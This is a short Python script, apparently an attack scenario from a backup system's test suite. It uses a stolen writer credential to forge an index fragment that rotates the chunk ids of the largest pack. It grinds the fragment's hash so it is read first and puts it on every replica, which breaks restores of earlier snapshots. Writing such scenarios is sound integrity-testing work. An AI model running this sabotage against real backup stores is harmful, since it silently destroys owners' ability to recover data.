"""A2: an index fragment, of 1 kB, that lies about where the chunks of a genuine pack are, ground to be read first.

Holds: the stolen credential of a writer of the domain, and put rights. Wants: earlier snapshots not to restore.

Usage: a02_lying_fragment.py CREDENTIAL REPLICA [REPLICA ...]. Prints the names of the pack and of the fragment.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
import forge  # type: ignore[import-not-found]
from stolen import Footer, Pack, Thief  # type: ignore[import-not-found]


def main() -> None:
    """Exchange the ids of the chunks of the largest pack."""
    credential, *replicas = sys.argv[1:]
    thief = Thief.at(credential, replicas[0])
    packs = sorted((Path(replicas[0]) / "packs").rglob("*/*"), key=lambda path: path.stat().st_size)
    genuine = Pack.of(packs[-1].read_bytes())
    footer = thief.footer_of(genuine)
    ids = [chunk[0] for chunk in footer.chunks]
    exchanged = [(other, *chunk[1:]) for other, chunk in zip(ids[1:] + ids[:1], footer.chunks, strict=True)]
    lying = thief.close(genuine.body, Footer(footer.origins, footer.segments, exchanged))
    lie = Pack(genuine.body, lying.sealed_footer, lying.tail)
    first = min(path.name for replica in replicas for path in (Path(replica) / "index").iterdir())
    while True:
        data = thief.fragment(lie, superseded=(os.urandom(32),))
        if forge.hash_of(data) < first:
            break
    name = f"index/{forge.hash_of(data)}"
    for replica in replicas:
        forge.put(Path(replica), name, data)
    print(genuine.name, name)


if __name__ == "__main__":
    main()
